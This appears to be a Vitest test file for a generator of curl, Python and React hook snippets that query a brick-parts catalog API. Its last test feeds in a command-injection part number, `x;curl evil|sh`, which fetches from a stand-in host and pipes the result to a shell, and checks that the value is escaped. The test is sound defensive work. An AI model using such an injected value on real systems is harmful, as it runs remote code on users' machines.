import { expect, test } from "vitest";
import { curl, hook, python } from "./snippets.ts";

const GUIDE = { query: "getPriceGuide", partNumber: "3001", colorId: 5 } as const;

test("curl asks for the same value over HTTP and names the token only", () => {
  expect(curl(GUIDE, "http://127.0.0.1:8000")).toBe(
    "curl -H \"Authorization: Bearer $FRESHBRICK_TOKEN\" \\\n  'http://127.0.0.1:8000/api/catalog/parts/3001/colors/5/price-guide'",
  );
  expect(curl({ query: "getPartColors", partNumber: "973" }, "")).toContain("/api/catalog/parts/973/colors");
});

test("Python watches the same value", () => {
  expect(python(GUIDE)).toContain('client.watch_price_guide("3001", 5)');
  expect(python({ query: "getPart", partNumber: "3001" })).toContain('client.watch_part("3001")');
});

test("the hook is the page's own", () => {
  expect(hook(GUIDE)).toBe('const { data, status, refetch } = useGetPriceGuide("3001", 5);');
});

test("what stands in the address runs nowhere", () => {
  const evil = { query: "getPart", partNumber: `x;curl evil|sh'"` } as const;
  const url = curl(evil, "http://127.0.0.1:8000").split("\n")[1]?.trim();
  expect(url).toBe(`'http://127.0.0.1:8000/api/catalog/parts/x%3Bcurl%20evil%7Csh'\\''%22'`);
  expect(python(evil)).toContain(`client.watch_part("x;curl evil|sh'\\"")`);
  expect(hook(evil)).toContain(`useGetPart("x;curl evil|sh'\\"")`);
});
